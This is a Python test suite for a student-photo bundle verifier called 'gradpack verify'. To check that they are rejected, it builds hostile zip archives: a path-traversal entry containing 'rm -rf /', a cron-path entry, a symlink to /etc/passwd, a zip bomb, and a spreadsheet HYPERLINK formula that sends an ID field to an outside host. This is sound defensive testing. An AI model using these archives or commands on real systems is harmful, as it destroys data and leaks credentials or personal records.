"""End-to-end tests of `gradpack verify` (issue 4).

A good bundle comes from `gradpack pack`; every damaged or hostile variant is
built here from it with Python's zipfile (or by hand, for what zipfile cannot
write: a zip bomb).  Each test asserts the finding code, the exit status and
that nothing was written anywhere in the test's temporary area.
"""
import os
import stat
import struct
import time
import zipfile
import zlib

from e2e_lib import GradpackTestCase, codes, findings, gradpack_json, main, tree_snapshot


def rewrite_zip(src, dst, *, drop=(), change=None, add=()):
    """Copy src to dst entry by entry: drop names, change(name, data) -> data,
    then add (ZipInfo or name, data) pairs."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info)
            if change:
                data = change(info.filename, data)
            zout.writestr(info, data)
        for info, data in add:
            zout.writestr(info, data)


def raw_zip(path, name, payload, *, crc, size, method):
    """A one-entry zip written byte by byte, so that the header may lie."""
    name_bytes = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x2821,
                        crc, len(payload), size, len(name_bytes), 0) + name_bytes
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031e, 20, 0, method, 0,
                          0x2821, crc, len(payload), size, len(name_bytes), 0, 0, 0, 0,
                          0o100644 << 16, 0) + name_bytes
    offset = len(local) + len(payload)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), offset, 0)
    with open(path, "wb") as f:
        f.write(local + payload + central + end)


class VerifyTest(GradpackTestCase):
    def setUp(self):
        super().setUp()
        roster, photos = self.make_station(3)
        proc_status, doc, proc = gradpack_json("pack", roster, photos, "-o", self.path("out"),
                                               "--name", "station-a")
        self.assertEqual(proc_status, 0, proc.stdout + proc.stderr)
        self.good = self.path("out", "station-a.zip")
        self.assertTrue(os.path.isfile(self.good), os.listdir(self.path("out")))
        with zipfile.ZipFile(self.good) as z:
            self.top = z.namelist()[0].split("/")[0]

    def verify(self, *args, expect_status):
        """Run verify with cwd in the temporary area; assert nothing was written."""
        before = tree_snapshot(self.tmp)
        status, doc, proc = gradpack_json("verify", *args, cwd=self.tmp)
        self.assertEqual(status, expect_status, proc.stdout[-3000:] + proc.stderr)
        self.assertEqual(tree_snapshot(self.tmp), before, "verify wrote a file")
        return doc

    def variant(self, name, **kw):
        path = self.path(name)
        rewrite_zip(self.good, path, **kw)
        return path

    def assertVerdict(self, doc, bundle, verdict):
        rows = {r["bundle"]: r for r in doc["bundles"]}
        self.assertEqual(rows[bundle]["verdict"], verdict, rows)

    # ---- intact and damaged bundles -------------------------------------

    def test_good_bundle_passes(self):
        doc = self.verify(self.good, expect_status=0)
        self.assertFalse(codes(doc, "error"), doc["findings"])
        self.assertVerdict(doc, "station-a.zip", "pass")
        self.assertEqual(doc["summary"]["bundles"], 1)
        self.assertEqual(doc["summary"]["passed"], 1)

    def test_extracted_folder_passes(self):
        folder = self.path("extracted")
        with zipfile.ZipFile(self.good) as z:
            z.extractall(folder)
        doc = self.verify(os.path.join(folder, self.top), expect_status=0)
        self.assertFalse(codes(doc, "error"), doc["findings"])

    def test_flipped_byte(self):
        target = f"{self.top}/photos/0002.jpg"

        def flip(name, data):
            if name != target:
                return data
            b = bytearray(data)
            b[len(b) // 2] ^= 0x01
            return bytes(b)
        doc = self.verify(self.variant("flipped.zip", change=flip), expect_status=1)
        hits = findings(doc, "bundle.hash_mismatch")
        self.assertEqual([f["file"] for f in hits], ["photos/0002.jpg"])
        self.assertVerdict(doc, "flipped.zip", "fail")

    def test_photo_removed(self):
        doc = self.verify(self.variant("removed.zip", drop={f"{self.top}/photos/0003.jpg"}),
                          expect_status=1)
        self.assertCodes(doc, {"bundle.missing_file", "photo.missing"})

    def test_extra_file(self):
        doc = self.verify(self.variant("extra.zip", add=[(f"{self.top}/notes.txt", b"hi")]),
                          expect_status=1)
        self.assertEqual([f["file"] for f in findings(doc, "bundle.unlisted")],
                         [f"{self.top}/notes.txt"])

    def test_manifest_removed_is_an_error_when_bundle_json_is_there(self):
        # pack always writes both: bundle.json without a manifest did not
        # come from pack as sent (a swapped photo could not be seen)
        doc = self.verify(self.variant("nomanifest.zip",
                                       drop={f"{self.top}/MANIFEST.sha256"}),
                          expect_status=1)
        self.assertIn("bundle.manifest_missing", codes(doc, "error"))
        self.assertVerdict(doc, "nomanifest.zip", "fail")

    def test_hand_made_zip_without_manifest_and_bundle_json_is_warned(self):
        doc = self.verify(self.variant("handmade.zip",
                                       drop={f"{self.top}/MANIFEST.sha256",
                                             f"{self.top}/bundle.json"}),
                          expect_status=0)
        self.assertIn("bundle.manifest_missing", codes(doc, "warning"))
        self.assertIn("bundle.metadata", codes(doc, "warning"))
        self.assertVerdict(doc, "handmade.zip", "pass")

    # ---- hostile archives ---------------------------------------------------

    def test_parent_and_absolute_paths(self):
        path = self.variant("escape.zip", add=[("../evil.sh", b"rm -rf /"),
                                               ("/etc/cron.d/evil", b"x")])
        doc = self.verify(path, expect_status=1)
        self.assertEqual(len(findings(doc, "bundle.unsafe_path")), 2)
        self.assertFalse(os.path.exists(os.path.join(os.path.dirname(self.tmp), "evil.sh")))

    def test_symlink_entry(self):
        link = zipfile.ZipInfo(f"{self.top}/photos/0004.jpg")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        doc = self.verify(self.variant("link.zip", add=[(link, b"/etc/passwd")]),
                          expect_status=1)
        self.assertCodes(doc, {"bundle.symlink"})

    def test_duplicate_names(self):
        path = self.path("dup.zip")
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate
            rewrite_zip(self.good, path,
                        add=[(f"{self.top}/photos/0001.jpg", b"another photo"),
                             (f"{self.top}/PHOTOS/0002.jpg", b"case twin")])
        doc = self.verify(path, expect_status=1)
        self.assertEqual(len(findings(doc, "bundle.duplicate_entry")), 2)

    def _bomb(self, name, declared):
        """1 GiB of zeros as a ~1 MB deflate stream (blocks repeated after a
        full flush), declaring `declared` bytes."""
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = comp.compress(bytes(1 << 24)) + comp.flush(zlib.Z_FULL_FLUSH)
        stream = block * 64 + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
        path = self.path(name)
        raw_zip(path, f"{self.top}/roster.csv", stream, crc=0, size=declared, method=8)
        self.assertLess(os.path.getsize(path), 2 << 20)
        return path

    def test_bomb_that_inflates(self):
        path = self._bomb("bomb.zip", declared=1000)
        start = time.monotonic()
        doc = self.verify(path, expect_status=1)
        self.assertLess(time.monotonic() - start, 1.0)
        hits = findings(doc, "bundle.too_large")
        self.assertEqual(len(hits), 1, doc["findings"])
        self.assertLessEqual(int(hits[0]["expected"]), 16 << 20)

    def test_bomb_that_claims(self):
        path = self._bomb("claims.zip", declared=0xFFFFFFF0)
        start = time.monotonic()
        doc = self.verify(path, expect_status=1)
        self.assertLess(time.monotonic() - start, 1.0)
        self.assertCodes(doc, {"bundle.too_large"})

    def test_truncated_zip(self):
        path = self.path("cut.zip")
        with open(self.good, "rb") as f:
            data = f.read()
        with open(path, "wb") as f:
            f.write(data[: len(data) // 2])
        doc = self.verify(path, expect_status=1)
        self.assertCodes(doc, {"bundle.not_zip"})
        self.assertVerdict(doc, "cut.zip", "fail")

    def test_not_a_zip(self):
        path = self.path("letter.zip")
        with open(path, "w", encoding="utf-8") as f:
            f.write("您好，附件是我站的照片。\n")
        doc = self.verify(path, self.good, expect_status=1)
        self.assertCodes(doc, {"bundle.not_zip"})
        self.assertVerdict(doc, "station-a.zip", "pass")
        self.assertEqual(doc["summary"]["failed"], 1)

    def test_missing_input_is_a_usage_failure(self):
        status, _doc, _proc = gradpack_json("verify", self.path("nowhere.zip"))
        self.assertEqual(status, 2)

    # ---- against the registry export and across bundles ----------------------

    def roster_rows(self):
        with zipfile.ZipFile(self.good) as z:
            text = z.read(f"{self.top}/roster.csv").decode("utf-8-sig")
        lines = [line.split(",") for line in text.strip().split("\r\n")]
        return lines[0], lines[1:]

    def test_master_mismatch_and_unknown(self):
        header, rows = self.roster_rows()
        col = {name: i for i, name in enumerate(header)}
        keep = ["学号", "姓名", "性别", "身份证号", "学历层次"]
        master = self.path("master.csv")
        with open(master, "w", encoding="gb18030", newline="") as f:
            f.write(",".join(keep) + "\r\n")
            for n, row in enumerate(rows[:2]):  # the third student is unknown
                values = [row[col[k]] for k in keep]
                if n == 0:
                    values[1] = values[1] + "某"  # a differing name
                f.write(",".join(values) + "\r\n")
        doc = self.verify(self.good, "--master", master, expect_status=1)
        mismatch = findings(doc, "master.mismatch")
        self.assertEqual(len(mismatch), 1, doc["findings"])
        self.assertEqual(mismatch[0]["field"], "姓名")
        self.assertEqual(mismatch[0]["expected"], mismatch[0]["actual"] + "某")
        unknown = findings(doc, "master.unknown_student")
        self.assertEqual(len(unknown), 1)
        self.assertEqual(unknown[0]["row"], 4)

    def test_same_student_in_two_bundles(self):
        copy = self.path("resent.zip")
        with open(self.good, "rb") as f, open(copy, "wb") as g:
            g.write(f.read())
        doc = self.verify(self.good, copy, expect_status=1)
        dups = findings(doc, "master.duplicate_student")
        self.assertEqual(len(dups), 3)
        self.assertTrue(all(f["source"] == "resent.zip" for f in dups))

    def test_parts_checked_together(self):
        roster, photos = self.make_station(3, name="parted")
        status, _doc, proc = gradpack_json("pack", roster, photos, "-o", self.path("parts"),
                                           "--name", "parted", "--max-part-size", "1300K")
        self.assertEqual(status, 0, proc.stdout + proc.stderr)
        parts = sorted(os.path.join(self.path("parts"), n)
                       for n in os.listdir(self.path("parts")) if n.endswith(".zip"))
        self.assertGreater(len(parts), 1, parts)
        doc = self.verify(*parts, expect_status=0)
        self.assertEqual(doc["summary"]["passed"], len(parts))
        doc = self.verify(*parts[1:], expect_status=1)
        self.assertCodes(doc, {"bundle.part_gap"})
        doc = self.verify(parts[0], parts[0], expect_status=1)
        self.assertCodes(doc, {"bundle.part_overlap"})

    # ---- what people open: roster.xlsx and mapping.csv (issue 9, item 4) ------

    def workbook_variant(self, name, edit):
        """The good bundle with roster.xlsx edited by openpyxl (a second writer)."""
        import io
        import openpyxl
        target = f"{self.top}/roster.xlsx"

        def change(entry, data):
            if entry != target:
                return data
            wb = openpyxl.load_workbook(io.BytesIO(data))
            edit(wb.worksheets[0])
            out = io.BytesIO()
            wb.save(out)
            return out.getvalue()
        return self.variant(name, change=change)

    def test_workbook_of_other_students(self):
        def edit(ws):
            ws["D2"] = "冒名顶替"
        doc = self.verify(self.workbook_variant("other.zip", edit), expect_status=1)
        hits = findings(doc, "bundle.workbook.mismatch")
        self.assertEqual(len(hits), 1, doc["findings"])
        self.assertEqual((hits[0]["row"], hits[0]["actual"]), (2, "冒名顶替"))
        self.assertIn("D2", hits[0]["message"])

    def test_workbook_formula_refused(self):
        def edit(ws):
            ws["J2"] = '=HYPERLINK("http://example.invalid/?id="&F2,"详情")'
        doc = self.verify(self.workbook_variant("formula.zip", edit), expect_status=1)
        hits = findings(doc, "bundle.workbook.formula")
        self.assertEqual(len(hits), 1, doc["findings"])
        self.assertIn("J2", hits[0]["message"])

    def test_workbook_number_cell_is_a_mismatch(self):
        def edit(ws):
            ws["C2"] = int(ws["C2"].value)  # the same digits, stored as a number
        doc = self.verify(self.workbook_variant("number.zip", edit), expect_status=1)
        hits = findings(doc, "bundle.workbook.mismatch")
        self.assertEqual([h["row"] for h in hits], [2], doc["findings"])

    def test_workbook_junk_is_unreadable(self):
        doc = self.verify(self.variant("junk.zip", change=lambda n, d: b"PK\x03\x04junk"
                                       if n.endswith("roster.xlsx") else d),
                          expect_status=1)
        self.assertIn("bundle.workbook.unreadable", codes(doc, "error"))

    def test_workbook_missing_is_an_error_with_bundle_json(self):
        doc = self.verify(self.variant("noxlsx.zip", drop={f"{self.top}/roster.xlsx"}),
                          expect_status=1)
        self.assertIn("bundle.workbook_missing", codes(doc, "error"))

    def test_mapping_only_in_merged_bundles(self):
        doc = self.verify(self.variant("mapping.zip",
                                       add=[(f"{self.top}/mapping.csv", b"a,b\r\n")]),
                          expect_status=1)
        self.assertIn("bundle.mapping_unexpected", codes(doc, "error"))
        self.assertNotIn("bundle.mapping_unexpected", codes(self.verify(self.good,
                                                                        expect_status=0)))


if __name__ == "__main__":
    main()
